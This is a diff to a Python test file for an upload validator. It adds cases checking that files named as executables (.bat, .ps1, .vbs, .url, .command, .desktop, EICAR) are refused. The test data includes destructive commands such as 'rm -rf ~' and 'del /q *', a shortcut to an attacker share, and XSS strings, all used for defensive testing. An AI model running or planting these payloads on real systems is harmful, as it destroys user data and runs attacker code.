@@ -192,6 +192,17 @@ TEXT_PDF = b"\n%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert
         (b"<img src=x onerror=alert(1)>", "page.html\u180e", "text/plain"),
         (b"<img src=x onerror=alert(1)>", "page.htm\u200bl", "text/plain"),
         (b"<img src=x onerror=alert(1)>", "\u200b.html", "text/plain"),  # only an invisible stem
+        # Text that Windows, macOS or a Linux desktop runs as a program when the download is opened by name.
+        (b"@echo off\r\ndel /q *\r\n", "setup.bat", "text/plain"),
+        (b"del /q *", "Setup.CMD", "application/octet-stream"),
+        (b"Remove-Item -Recurse ~", "fix.ps1", "text/plain"),
+        (b'CreateObject("WScript.Shell").Run "calc"', "invoice.vbs", "text/plain"),
+        (b"Windows Registry Editor Version 5.00\r\n", "tweak.reg", "text/plain"),
+        (b"[InternetShortcut]\r\nURL=file://attacker/share/x.exe\r\n", "docs.url", "text/plain"),
+        (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "eicar.com", "application/octet-stream"),  # printable x86 code
+        (b"#!/bin/sh\nrm -rf ~\n", "open-me.command", "text/plain"),  # macOS Finder runs it in Terminal
+        (b"[Desktop Entry]\nExec=sh -c 'rm -rf ~'\n", "photos.desktop", "text/plain"),
+        (b"@echo off", "setup.bat.", "text/plain"),  # saved as setup.bat
     ],
 )
 async def test_a_filename_naming_another_type_is_refused(
@@ -216,6 +227,8 @@ async def test_a_filename_naming_another_type_is_refused(
         (JPEG, "photo.jpeg", "image/jpeg"),
         (PDF, "report.pdf", "application/pdf"),
         (b"print(1)\n", "main.py", "text/plain"),  # an extension we do not know says nothing
+        (b"#!/bin/sh\necho hi\n", "deploy.sh", "text/plain"),  # a script a double-click opens in an editor
+        (b"@echo off", "setup.bat.txt", "text/plain"),  # what the refusal of setup.bat asks for
         (b"a,b\n1,2\n", "data.csv", "text/plain"),  # any text extension suits text
         (b"# notes", "notes.txt", "text/plain"),
         (b"no extension", "README", "text/plain"),
